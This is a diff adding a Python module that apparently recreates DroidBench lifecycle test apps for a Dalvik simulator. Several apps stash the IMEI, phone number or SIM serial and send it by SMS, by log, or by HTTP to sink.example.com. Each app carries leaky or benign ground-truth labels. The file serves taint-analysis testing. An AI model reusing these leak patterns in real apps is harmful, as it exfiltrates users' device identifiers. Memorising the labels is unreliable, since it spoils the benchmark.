@@ -1,0 +1,195 @@
+"""DroidBench category: Lifecycle — data carried across component callbacks.
+
+The main method plays the Android framework, driving the documented
+callback sequences (onCreate -> onStart -> onResume, service start/stop,
+broadcast delivery).
+"""
+
+from __future__ import annotations
+
+from typing import List
+
+from repro.android.device import AndroidDevice
+from repro.dalvik.builder import MethodBuilder
+from repro.dalvik.vm import Method
+from repro.apps.droidbench.common import (
+    BenchApp,
+    concat_const_and,
+    fetch_imei,
+    fetch_phone_number,
+    send_log,
+    send_sms_to,
+)
+
+
+def _activity_lifecycle1(device: AndroidDevice) -> List[Method]:
+    """ActivityLifecycle1 (leaky): IMEI stored in onCreate via a static
+    field, sent in onResume."""
+    on_create = MethodBuilder("ActivityLifecycle1.onCreate", registers=8)
+    fetch_imei(on_create, 0)
+    on_create.sput_object(0, "ActivityLifecycle1.stash_slot")
+    on_create.return_void()
+
+    on_resume = MethodBuilder("ActivityLifecycle1.onResume", registers=10)
+    on_resume.sget_object(0, "ActivityLifecycle1.stash_slot")
+    send_sms_to(on_resume, 0, 1, 2)
+    on_resume.return_void()
+
+    main = MethodBuilder("ActivityLifecycle1.main", registers=4)
+    main.invoke_static("ActivityLifecycle1.onCreate")
+    main.invoke_static("ActivityLifecycle1.onResume")
+    main.return_void()
+    return [on_create.build(), on_resume.build(), main.build()]
+
+
+def _activity_lifecycle2(device: AndroidDevice) -> List[Method]:
+    """ActivityLifecycle2 (leaky): instance field carries the secret from
+    onStart to onStop."""
+    device.define_class("ActivityLifecycle2/Activity", fields=[("secret", 4)])
+    on_start = MethodBuilder("ActivityLifecycle2.onStart", registers=8, ins=1)
+    fetch_imei(on_start, 0)
+    on_start.iput_object(0, 7, "ActivityLifecycle2/Activity.secret")
+    on_start.return_void()
+
+    on_stop = MethodBuilder("ActivityLifecycle2.onStop", registers=10, ins=1)
+    on_stop.iget_object(0, 9, "ActivityLifecycle2/Activity.secret")
+    concat_const_and(on_stop, "bye&id=", 0, 1, 2, 3)
+    send_sms_to(on_stop, 1, 4, 5)
+    on_stop.return_void()
+
+    main = MethodBuilder("ActivityLifecycle2.main", registers=6)
+    main.new_instance(0, "ActivityLifecycle2/Activity")
+    main.invoke("ActivityLifecycle2.onStart", 0)
+    main.invoke("ActivityLifecycle2.onStop", 0)
+    main.return_void()
+    return [on_start.build(), on_stop.build(), main.build()]
+
+
+def _activity_saved_state(device: AndroidDevice) -> List[Method]:
+    """ActivitySavedState (benign): the saved secret is replaced by a
+    default before anything is sent."""
+    device.define_class("ActivitySavedState/Activity", fields=[("state", 4)])
+    on_save = MethodBuilder("ActivitySavedState.onSaveInstanceState", registers=8, ins=1)
+    fetch_imei(on_save, 0)
+    on_save.iput_object(0, 7, "ActivitySavedState/Activity.state")
+    on_save.return_void()
+
+    on_restore = MethodBuilder(
+        "ActivitySavedState.onRestoreInstanceState", registers=8, ins=1
+    )
+    on_restore.const_string(0, "default state")
+    on_restore.iput_object(0, 7, "ActivitySavedState/Activity.state")
+    on_restore.return_void()
+
+    on_resume = MethodBuilder("ActivitySavedState.onResume", registers=10, ins=1)
+    on_resume.iget_object(0, 9, "ActivitySavedState/Activity.state")
+    send_log(on_resume, 0, 1)
+    on_resume.return_void()
+
+    main = MethodBuilder("ActivitySavedState.main", registers=6)
+    main.new_instance(0, "ActivitySavedState/Activity")
+    main.invoke("ActivitySavedState.onSaveInstanceState", 0)
+    main.invoke("ActivitySavedState.onRestoreInstanceState", 0)
+    main.invoke("ActivitySavedState.onResume", 0)
+    main.return_void()
+    return [on_save.build(), on_restore.build(), on_resume.build(), main.build()]
+
+
+def _service_lifecycle(device: AndroidDevice) -> List[Method]:
+    """ServiceLifecycle (leaky): onStartCommand collects, onDestroy sends."""
+    device.define_class("ServiceLifecycle/Service", fields=[("collected", 4)])
+    on_start = MethodBuilder("ServiceLifecycle.onStartCommand", registers=10, ins=1)
+    fetch_phone_number(on_start, 0)
+    on_start.iput_object(0, 9, "ServiceLifecycle/Service.collected")
+    on_start.return_void()
+
+    on_destroy = MethodBuilder("ServiceLifecycle.onDestroy", registers=12, ins=1)
+    on_destroy.iget_object(0, 11, "ServiceLifecycle/Service.collected")
+    concat_const_and(on_destroy, "http://sink.example.com/?p=", 0, 1, 2, 3)
+    on_destroy.new_instance(4, "java/net/URL")
+    on_destroy.invoke_direct("URL.<init>", 4, 1)
+    on_destroy.invoke("URL.openConnection", 4)
+    on_destroy.move_result_object(5)
+    on_destroy.invoke("HttpURLConnection.connect", 5)
+    on_destroy.return_void()
+
+    main = MethodBuilder("ServiceLifecycle.main", registers=6)
+    main.new_instance(0, "ServiceLifecycle/Service")
+    main.invoke("ServiceLifecycle.onStartCommand", 0)
+    main.invoke("ServiceLifecycle.onDestroy", 0)
+    main.return_void()
+    return [on_start.build(), on_destroy.build(), main.build()]
+
+
+def _broadcast_receiver_leak(device: AndroidDevice) -> List[Method]:
+    """BroadcastReceiverLeak (leaky): a receiver reads the SIM serial on
+    delivery and texts it."""
+    on_receive = MethodBuilder("BroadcastReceiverLeak.onReceive", registers=12, ins=1)
+    on_receive.invoke_static("TelephonyManager.getSimSerialNumber")
+    on_receive.move_result_object(0)
+    concat_const_and(on_receive, "sim=", 0, 1, 2, 3)
+    send_sms_to(on_receive, 1, 4, 5)
+    on_receive.return_void()
+
+    main = MethodBuilder("BroadcastReceiverLeak.main", registers=6)
+    main.new_instance(0, "android/content/Intent")
+    main.invoke_direct("Intent.<init>", 0)
+    main.invoke("BroadcastReceiverLeak.onReceive", 0)
+    main.return_void()
+    return [on_receive.build(), main.build()]
+
+
+def _application_lifecycle(device: AndroidDevice) -> List[Method]:
+    """ApplicationLifecycle (benign): app-level state survives callbacks,
+    but only a build tag is reported."""
+    on_create = MethodBuilder("ApplicationLifecycle.onCreate", registers=8)
+    fetch_imei(on_create, 0)
+    on_create.sput_object(0, "ApplicationLifecycle.device_id")
+    on_create.const_string(1, "build-2016.04")
+    on_create.sput_object(1, "ApplicationLifecycle.build_tag")
+    on_create.return_void()
+
+    on_terminate = MethodBuilder("ApplicationLifecycle.onTerminate", registers=10)
+    on_terminate.sget_object(0, "ApplicationLifecycle.build_tag")
+    send_log(on_terminate, 0, 1)
+    on_terminate.return_void()
+
+    main = MethodBuilder("ApplicationLifecycle.main", registers=4)
+    main.invoke_static("ApplicationLifecycle.onCreate")
+    main.invoke_static("ApplicationLifecycle.onTerminate")
+    main.return_void()
+    return [on_create.build(), on_terminate.build(), main.build()]
+
+
+APPS = [
+    BenchApp(
+        "Lifecycle.ActivityLifecycle1", "lifecycle", True,
+        _activity_lifecycle1, "ActivityLifecycle1.main",
+        "Static field carries the IMEI from onCreate to onResume.", 1,
+    ),
+    BenchApp(
+        "Lifecycle.ActivityLifecycle2", "lifecycle", True,
+        _activity_lifecycle2, "ActivityLifecycle2.main",
+        "Instance field carries the IMEI from onStart to onStop.", 2,
+    ),
+    BenchApp(
+        "Lifecycle.ActivitySavedState", "lifecycle", False,
+        _activity_saved_state, "ActivitySavedState.main",
+        "Saved secret replaced with a default before the sink.",
+    ),
+    BenchApp(
+        "Lifecycle.ServiceLifecycle", "lifecycle", True,
+        _service_lifecycle, "ServiceLifecycle.main",
+        "Phone number collected at service start, posted at destroy.", 2,
+    ),
+    BenchApp(
+        "Lifecycle.BroadcastReceiverLeak", "lifecycle", True,
+        _broadcast_receiver_leak, "BroadcastReceiverLeak.main",
+        "Broadcast receiver texts the SIM serial.", 2,
+    ),
+    BenchApp(
+        "Lifecycle.ApplicationLifecycle", "lifecycle", False,
+        _application_lifecycle, "ApplicationLifecycle.main",
+        "Secret parked in app state; only a build tag is reported.",
+    ),
+]
